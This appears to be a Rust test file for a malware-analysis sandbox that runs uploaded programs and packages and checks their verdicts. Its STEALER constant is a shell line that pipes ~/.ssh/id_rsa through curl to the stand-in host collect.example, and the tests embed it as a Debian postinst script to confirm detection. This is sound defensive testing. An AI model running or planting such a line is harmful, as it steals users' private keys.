use std::fs;
use std::io::Write as _;
use std::path::PathBuf;

use apa_model::VerdictLabel;
use apa_model::report::Report;
use apa_testkit::specimen;
use zip::unstable::write::FileOptionsExt as _;
use zip::write::SimpleFileOptions;

use crate::support::{analyze, run, sandbox_works};

struct Uploads(tempfile::TempDir);

impl Uploads {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn file(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.path().join(name);
        fs::write(&path, bytes).unwrap();
        path
    }

    fn report(&self, name: &str, bytes: &[u8], more: &[&str]) -> Report {
        let (report, _) = analyze(&self.file(name, bytes), more);
        report.unwrap_or_else(|why| panic!("{name}: {why}"))
    }
}

fn rules(report: &Report) -> Vec<&str> {
    report
        .findings
        .iter()
        .map(|finding| finding.rule.as_str())
        .collect()
}

/// Sends a bait away, and nothing else.
const STEALER: &[u8] =
    b"#!/bin/sh\ncat ~/.ssh/id_rsa | curl -s --data-binary @- http://collect.example/x\n";

fn deb(postinst: &[u8]) -> Vec<u8> {
    let tar = |files: &[(&str, &[u8])]| {
        let mut tar = tar::Builder::new(Vec::new());
        for (path, bytes) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(bytes.len() as u64);
            header.set_mode(0o755);
            tar.append_data(&mut header, path, *bytes).unwrap();
        }
        tar.into_inner().unwrap()
    };
    let control = b"Package: helper\nVersion: 1.2\nArchitecture: all\n";
    let mut out = b"!<arch>\n".to_vec();
    for (name, data) in [
        ("debian-binary", b"2.0\n".to_vec()),
        (
            "control.tar",
            tar(&[("control", control), ("postinst", postinst)]),
        ),
        (
            "data.tar",
            tar(&[("usr/bin/helper", b"#!/bin/sh\necho help\n")]),
        ),
    ] {
        let head = format!(
            "{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n",
            0,
            0,
            0,
            100_644,
            data.len()
        );
        out.extend(head.into_bytes());
        out.extend(data);
    }
    out
}

#[test]
fn a_program_by_itself_is_run_and_judged() {
    if !sandbox_works("a_program_by_itself_is_run_and_judged") {
        return;
    }
    let uploads = Uploads::new();
    let bad = uploads.report("update.sh", STEALER, &[]);
    assert_eq!(bad.verdict.label, VerdictLabel::Malicious);
    assert!(
        rules(&bad).contains(&"canary-exfiltrated"),
        "{:?}",
        rules(&bad)
    );
    assert_eq!(bad.package.purl, "pkg:generic/update.sh");
    assert!(bad.complete, "{:?}", bad.verdict.incomplete);
    let elf = fs::read("/bin/true").unwrap();
    let good = uploads.report("good", &elf, &[]);
    assert_eq!(
        (good.verdict.label, rules(&good)),
        (VerdictLabel::Clean, vec![])
    );
    // Also one that never ends, and by its name alone.
    let waits = uploads.report("waits.py", b"import time\ntime.sleep(600)\n", &[]);
    assert_eq!(
        waits.verdict.label,
        VerdictLabel::Clean,
        "{:?}",
        waits.verdict
    );
}

#[test]
fn a_debian_package_shows_what_its_maintainer_scripts_do() {
    if !sandbox_works("a_debian_package_shows_what_its_maintainer_scripts_do") {
        return;
    }
    let uploads = Uploads::new();
    let bad = uploads.report("helper_1.2_all.deb", &deb(STEALER), &[]);
    assert_eq!(bad.verdict.label, VerdictLabel::Malicious);
    assert!(
        bad.verdict.summary.contains("postinst"),
        "{}",
        bad.verdict.summary
    );
    assert_eq!(bad.package.purl, "pkg:generic/helper@1.2");
    assert!(bad.complete, "{:?}", bad.verdict.incomplete);
    let good = uploads.report("ok_1_all.deb", &deb(b"#!/bin/sh\nexit 0\n"), &[]);
    assert_eq!(
        (good.verdict.label, rules(&good)),
        (VerdictLabel::Clean, vec![])
    );
}

fn sealed(name: &str, bytes: &[u8], password: Option<&'static str>) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    let options = match password {
        Some(password) => options
            .with_deprecated_encryption(password.as_bytes())
            .unwrap(),
        None => options,
    };
    zip.start_file(name, options).unwrap();
    zip.write_all(bytes).unwrap();
    zip.finish().unwrap().into_inner()
}

#[test]
fn a_sample_in_a_wrapper_is_analysed_as_what_it_is() {
    if !sandbox_works("a_sample_in_a_wrapper_is_analysed_as_what_it_is") {
        return;
    }
    let uploads = Uploads::new();
    let sample = specimen("npm-prints").unwrap();
    for (password, more) in [
        (None, &[][..]),
        (Some("infected"), &[]),
        (Some("other"), &["--password", "other"]),
    ] {
        let wrapped = sealed(&sample.filename, &sample.bytes, password);
        let report = uploads.report("sample.zip", &wrapped, more);
        assert_eq!(report.verdict.label, VerdictLabel::Clean);
        assert!(
            report.package.purl.starts_with("pkg:npm/"),
            "{}",
            report.package.purl
        );
    }
}

#[test]
fn what_cannot_be_run_here_is_named_and_never_clean() {
    let uploads = Uploads::new();
    let mut arm = b"\x7fELF\x02\x01\x01".to_vec();
    arm.resize(18, 0);
    arm.extend([183, 0]);
    arm[16] = 2;
    let sample = specimen("npm-prints").unwrap();
    for (name, bytes, more, says) in [
        ("a.exe", b"MZ\x90\0".to_vec(), &[][..], "a Windows program"),
        (
            "a.msi",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(),
            &[],
            "a Windows installer",
        ),
        ("arm", arm, &[], "unsupported here"),
        (
            "odd",
            b"#!/opt/odd/interpreter\n".to_vec(),
            &[],
            "interpreter is needed",
        ),
        ("a.nupkg", sealed_two(), &[], "NuGet"),
        (
            "b.zip",
            sealed("x.tgz", &sample.bytes, Some("unknown")),
            &[],
            "--password",
        ),
        (
            "c.tgz",
            sample.bytes.clone(),
            &["--ecosystem", "pypi"],
            "no pypi package",
        ),
    ] {
        let path = uploads.file(name, &bytes).to_string_lossy().into_owned();
        let args = ["analyze", &path].into_iter().chain(more.iter().copied());
        let output = run(args);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(4), "{name}: {stderr}");
        assert!(stderr.contains(says), "{name}: {stderr}");
        assert!(output.stdout.is_empty());
    }
}

/// A zip archive of two files, one of them a NuGet manifest.
fn sealed_two() -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for name in ["a.nuspec", "lib/a.dll"] {
        zip.start_file(name, SimpleFileOptions::default()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}
